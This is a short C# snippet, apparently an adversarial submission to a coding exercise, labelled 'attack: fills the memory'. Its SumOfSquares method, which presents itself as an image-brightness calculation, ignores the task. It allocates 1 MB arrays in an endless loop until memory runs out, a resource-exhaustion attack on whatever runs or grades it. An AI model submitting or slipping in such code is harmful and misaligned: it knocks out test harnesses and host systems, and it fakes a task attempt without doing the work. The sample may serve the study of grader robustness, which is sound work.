// exercise: loop-order
// attack: fills the memory
static class Brightness
{
    public static long SumOfSquares(CountedGrid image)
    {
        var all = new List<byte[]>();
        while (true)
        {
            var block = new byte[1 << 20];
            Array.Fill(block, (byte)1);
            all.Add(block);
        }
    }
}
